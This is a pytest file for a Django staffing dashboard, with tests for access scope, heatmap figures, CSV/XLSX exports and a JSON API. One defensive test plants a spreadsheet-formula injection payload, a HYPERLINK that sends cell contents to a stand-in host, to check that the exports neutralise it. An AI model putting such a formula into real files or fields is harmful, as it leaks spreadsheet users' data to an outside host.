"""Staffing dashboard, day drill-down, downloads and ``GET /api/v1/staffing/``: who sees what,
the numbers shown, and the files read back."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from attendance.services.staffing import compute_staffing
from portal.models import Unit
from portal.selectors import workcalendar
from tests.attendance.test_staffing import (  # noqa: F401 - fixtures used by name
    MON,
    SUN,
    TUE,
    fresh_cache,
    frozen,
    week,
)
from tests.factories import EmployeeFactory

DASHBOARD = reverse("staffing-dashboard")
EXPORT = reverse("staffing-export")
API = "/api/v1/staffing/"


@pytest.fixture
def computed(week, upt):  # noqa: F811 - the imported fixture, by name
    EmployeeFactory.create_batch(2, unit=upt)
    compute_staffing(MON - dt.timedelta(days=60), SUN)
    return week


def login(client, who):
    client.force_login(getattr(who, "user", who))


def html(response) -> str:
    return response.content.decode()


def day_url(unit, day=MON):
    return reverse("staffing-day", args=[unit.pk, day.isoformat()])


# --- Scope -----------------------------------------------------------------------------

def test_it_sends_anonymous_visitors_to_login(client, computed):
    for url in (DASHBOARD, day_url(computed.unit), f"{EXPORT}?unit={computed.unit.pk}"):
        response = client.get(url)
        assert response.status_code == 302 and response.url.startswith(reverse("login"))
    assert client.get(f"{API}?unit={computed.unit.pk}").status_code == 401


@pytest.mark.parametrize("who", ["kabid", "kadis", "plh", "hr", "superuser"])
def test_it_shows_a_unit_to_its_heads_supervisors_hr_and_superusers(client, computed, plh, hr, superuser, kadis,
                                                                   who, request):
    login(client, request.getfixturevalue(who))
    unit = computed.unit.pk
    for url in (f"{DASHBOARD}?unit={unit}&bulan=2026-12", day_url(computed.unit),
                f"{EXPORT}?unit={unit}&bulan=2026-12&format=csv", f"{API}?unit={unit}&start=2026-12-21&end=2026-12-27"):
        assert client.get(url).status_code == 200, url


@pytest.mark.parametrize("who", ["ani", "outsider", "hr_other"])
def test_it_answers_404_to_everybody_else(client, computed, outsider, hr_other, who, request):
    login(client, request.getfixturevalue(who))
    unit = computed.unit.pk
    for url in (f"{DASHBOARD}?unit={unit}", day_url(computed.unit), f"{EXPORT}?unit={unit}&format=xlsx",
                f"{API}?unit={unit}"):
        assert client.get(url).status_code == 404, url


@pytest.mark.parametrize("who", ["ani", "outsider"])
def test_it_answers_404_on_the_dashboard_to_people_who_see_no_unit(client, computed, outsider, who, request):
    login(client, request.getfixturevalue(who))
    assert client.get(DASHBOARD).status_code == 404


def test_it_opens_an_hr_admin_on_a_unit_of_their_own_scope(client, computed, hr_other, pemprov_lain):
    login(client, hr_other)
    assert client.get(DASHBOARD).context["unit"] == pemprov_lain


def test_it_shows_a_supervisor_the_units_of_their_reports_only(client, computed, upt, dinkes):
    boss = EmployeeFactory(unit=upt, name="Atasan di UPT")
    EmployeeFactory(unit=computed.unit, supervisor=boss)
    login(client, boss)
    assert client.get(f"{DASHBOARD}?unit={computed.unit.pk}").status_code == 200
    assert client.get(f"{DASHBOARD}?unit={dinkes.pk}").status_code == 404
    assert client.get(f"{API}?unit={dinkes.pk}").status_code == 404
    assert client.get(DASHBOARD).context["unit"] == computed.unit  # his own unit is not his to see


def test_it_shows_a_head_the_whole_subtree(client, computed, kadis, upt):
    login(client, kadis)
    assert client.get(f"{DASHBOARD}?unit={upt.pk}").status_code == 200
    assert client.get(DASHBOARD).context["unit"].code == "DINKES"  # his own unit by default


def test_it_answers_404_for_unknown_units_dates_and_formats(client, computed, hr):
    login(client, hr)
    assert client.get(f"{DASHBOARD}?unit=999999").status_code == 404
    assert client.get(f"{DASHBOARD}?unit=abc").status_code == 404
    assert client.get(reverse("staffing-day", args=[computed.unit.pk, "2026-13-45"])).status_code == 404
    assert client.get(f"{EXPORT}?unit={computed.unit.pk}&format=pdf").status_code == 404
    body = client.get(f"{API}?unit=999999").json()
    assert body["error"]["code"] == "not_found"


# --- Dashboard -------------------------------------------------------------------------

def test_it_writes_the_numbers_and_status_in_each_heatmap_cell(client, computed):
    login(client, computed.kabid)
    page = html(client.get(f"{DASHBOARD}?unit={computed.unit.pk}&bulan=2026-12"))
    cell = page.split('datetime="2026-12-21"', 1)[1].split("</td>", 1)[0]
    assert "5/10" in cell and "min 7" in cell and "Di bawah minimum" in cell and "1 menunggu" in cell
    tue = page.split('datetime="2026-12-22"', 1)[1].split("</td>", 1)[0]
    assert "8/10" in tue and "Rawan" in tue
    xmas = page.split('datetime="2026-12-25"', 1)[1].split("</td>", 1)[0]
    assert "Natal" in xmas and "heat--off" in page
    assert 'id="staffing-legend"' in page and "Keterangan" in page
    assert day_url(computed.unit) in page


def test_it_draws_the_trend_as_inline_svg_without_a_cdn(client, computed):
    login(client, computed.kabid)
    page = html(client.get(f"{DASHBOARD}?unit={computed.unit.pk}&bulan=2026-12"))
    svg = page[page.index("<svg"):page.index("</svg>")]
    assert '<title id="trend-title">' in svg and '<desc id="trend-desc">' in svg and 'role="img"' in svg
    assert "Orang" in svg and "Minggu" in svg  # labelled axes
    assert "<polyline" in svg and "trend__dot--below" in svg
    assert "21 Desember 2026" in svg  # the tightest week is named in the description
    assert "<script" not in page.split("</main>")[0].split('<main')[1]
    assert "cdn" not in page.lower()
    assert "," not in svg.split('points="')[1].split(" ")[0].replace(",", "", 1)  # dot decimals, not "12,5"


def test_it_lists_sub_units_with_their_worst_status(client, computed, kadis, dinkes):
    login(client, kadis)
    page = html(client.get(f"{DASHBOARD}?unit={dinkes.pk}&bulan=2026-12"))
    row = page.split("Bidang P2P</a>", 1)[1].split("</tr>", 1)[0]
    assert "Di bawah minimum" in row and "<td>1</td><td>1</td>" in row
    assert f"?unit={computed.unit.pk}&amp;bulan=2026-12" in page
    upt_row = page.split("UPT Puskesmas Kota</a>", 1)[1].split("</tr>", 1)[0]
    assert "Aman" in upt_row


def test_it_sums_the_subtree_on_request(client, computed, kadis, dinkes):
    login(client, kadis)
    page = html(client.get(f"{DASHBOARD}?unit={dinkes.pk}&bulan=2026-12&subtree=1"))
    cell = page.split('datetime="2026-12-21"', 1)[1].split("</td>", 1)[0]
    assert "8/13" in cell and "1 unit di bawah minimum" in cell


# --- Day drill-down --------------------------------------------------------------------

def names(page, list_class):
    block = page.split(f'class="names {list_class}"', 1)[1].split("</ul>", 1)[0]
    return block


def test_it_lists_who_is_in_without_the_reason_for_supervisors(client, computed):
    login(client, computed.kabid)
    page = html(client.get(day_url(computed.unit)))
    away, present = names(page, "names--away"), names(page, "names--in")
    assert "Ani Lestari" in away and "Pegawai E2" in away and "Kepala Bidang P2P" in present
    assert "Pegawai E4" in present and "ada pengajuan menunggu" in present
    assert "Pegawai E8" not in page  # deactivated
    assert "Cuti tahunan" not in page and "Sakit" not in page and "WFH" not in away
    assert "5 / 10" in page


def test_it_shows_the_kind_of_absence_to_hr(client, computed, hr):
    login(client, hr)
    away = names(html(client.get(day_url(computed.unit))), "names--away")
    assert "Cuti tahunan" in away and "Sakit" in away and "WFH" in away


def test_it_says_a_holiday_is_a_holiday_instead_of_listing_people(client, computed):
    login(client, computed.kabid)
    page = html(client.get(day_url(computed.unit, dt.date(2026, 12, 25))))
    assert "Hari libur: Hari Raya Natal" in page
    assert 'class="names' not in page


def test_it_lists_the_units_below_on_a_parents_day(client, computed, kadis, dinkes):
    login(client, kadis)
    page = html(client.get(day_url(dinkes)))
    assert day_url(computed.unit) in page and "Kepala Dinas" in page


# --- Downloads -------------------------------------------------------------------------

def download(client, unit, fmt, **extra):
    query = "&".join(f"{k}={v}" for k, v in {"unit": unit.pk, "bulan": "2026-12", "format": fmt, **extra}.items())
    response = client.get(f"{EXPORT}?{query}")
    assert response.status_code == 200
    return response


def read_csv(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_it_downloads_the_month_as_csv(client, computed):
    login(client, computed.kabid)
    response = download(client, computed.unit, "csv")
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="kehadiran-dinkes-p2p-2026-12.csv"' in response["Content-Disposition"]
    header, *rows = read_csv(response)
    rows = [r for r in rows if r[2] >= "2026-12-21"]  # the earlier days of December are all "ok"
    assert header[:5] == ["Kode unit", "Unit", "Tanggal", "Jumlah pegawai", "Di kantor"]
    assert [r[2] for r in rows] == ["2026-12-21", "2026-12-22", "2026-12-23"]
    mon = dict(zip(header, rows[0], strict=True))
    assert (mon["Unit"], mon["Jumlah pegawai"], mon["Di kantor"], mon["WFH"], mon["CT"], mon["SAKIT"],
            mon["Minimal di kantor"], mon["status"]) == ("Bidang P2P", "10", "5", "2", "1", "1", "7", "below")


def test_it_downloads_the_month_as_xlsx_with_a_bold_frozen_header(client, computed):
    login(client, computed.kabid)
    response = download(client, computed.unit, "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    rows = [r for r in sheet.iter_rows(min_row=2, values_only=True) if r[2] >= dt.datetime(2026, 12, 21)]
    assert len(rows) == 3
    assert rows[1][:5] == ("DINKES-P2P", "Bidang P2P", dt.datetime(2026, 12, 22), 10, 8)
    assert rows[1][-2:] == ("at_risk", "Rawan")


def test_it_downloads_one_row_per_unit_for_a_subtree(client, computed, kadis, dinkes):
    login(client, kadis)
    _header, *rows = read_csv(download(client, dinkes, "csv", subtree=1))
    days = [d.isoformat() for d in workcalendar.working_days(dinkes, dt.date(2026, 12, 1), SUN)]
    assert len(days) == 17
    assert sorted((r[0], r[2]) for r in rows) == [(code, d) for code in ("DINKES", "DINKES-P2P", "DINKES-UPT1")
                                                  for d in days]


def test_it_neutralises_formulas_in_the_files(client, computed):
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
    Unit.objects.filter(pk=computed.unit.pk).update(name=evil, code="-2+3")
    login(client, computed.kabid)
    _header, *rows = read_csv(download(client, computed.unit, "csv"))
    assert rows[0][0] == "'-2+3" and rows[0][1] == "'" + evil
    sheet = load_workbook(io.BytesIO(download(client, computed.unit, "xlsx").content)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == "'" + evil and cell.data_type == "s"
    assert sheet.cell(row=2, column=1).value == "'-2+3"


# --- API -------------------------------------------------------------------------------

def test_it_serves_the_dataset_per_day(client, computed):
    login(client, computed.kabid)
    body = client.get(f"{API}?unit={computed.unit.pk}&start=2026-12-21&end=2026-12-27").json()
    assert body["unit"] == {"id": computed.unit.pk, "code": "DINKES-P2P", "name": "Bidang P2P"}
    assert [d["date"] for d in body["days"]] == ["2026-12-21", "2026-12-22", "2026-12-23"]
    mon = body["days"][0]
    assert mon == {"date": "2026-12-21", "headcount": 10, "in_office": 5, "wfh": 2, "wfa": 1, "other_office": 0,
                   "absences": {"CT": 1, "CB": 0, "CS": 0, "CM": 0, "CAP": 0, "CLTN": 0, "IZIN": 0, "SAKIT": 1,
                                "DL": 0, "DIKLAT": 0},
                   "pending": 1, "minimum": 7, "status": "below", "units": 1, "units_below": 1}
    tue = body["days"][1]
    assert (tue["other_office"], tue["absences"]["DL"], tue["pending"], tue["status"]) == (1, 1, 2, "at_risk")


def test_it_serves_subtree_sums(client, computed, kadis, dinkes):
    login(client, kadis)
    body = client.get(f"{API}?unit={dinkes.pk}&start=2026-12-21&end=2026-12-21&subtree=true").json()
    (mon,) = body["days"]
    assert body["subtree"] is True
    assert (mon["headcount"], mon["in_office"], mon["minimum"], mon["units"], mon["units_below"]) == (13, 8, 7, 3, 1)
    own = client.get(f"{API}?unit={dinkes.pk}&start=2026-12-21&end=2026-12-21&subtree=false").json()
    assert own["days"][0]["headcount"] == 1


def test_it_limits_the_range_to_93_days(client, computed):
    login(client, computed.kabid)
    unit = computed.unit.pk
    assert client.get(f"{API}?unit={unit}&start=2026-10-01&end=2027-01-01").status_code == 200  # 93 days
    too_long = client.get(f"{API}?unit={unit}&start=2026-10-01&end=2027-01-02")
    assert too_long.status_code == 400
    assert too_long.json()["error"]["code"] == "invalid" and "end" in too_long.json()["error"]["fields"]
    assert client.get(f"{API}?unit={unit}&start=2026-12-10&end=2026-12-01").status_code == 400
    assert client.get(f"{API}?unit={unit}&end=2027-12-01").status_code == 400  # from today (1 Dec 2026)
    assert client.get(f"{API}?start=2026-12-01").status_code == 400


def test_it_defaults_to_the_next_four_weeks(client, computed):
    login(client, computed.kabid)
    body = client.get(f"{API}?unit={computed.unit.pk}").json()
    assert (body["start"], body["end"]) == ("2026-12-01", "2026-12-28")
    assert "2026-12-21" in [d["date"] for d in body["days"]]


def test_it_documents_the_endpoint(client, computed, superuser):
    login(client, superuser)
    schema = client.get(reverse("api-schema")).content.decode()
    path = schema.split("/api/v1/staffing/:", 1)[1].split("\n  /", 1)[0]
    assert "subtree" in path and "'404'" in path and "'400'" in path
    assert "absences" in schema and "units_below" in schema

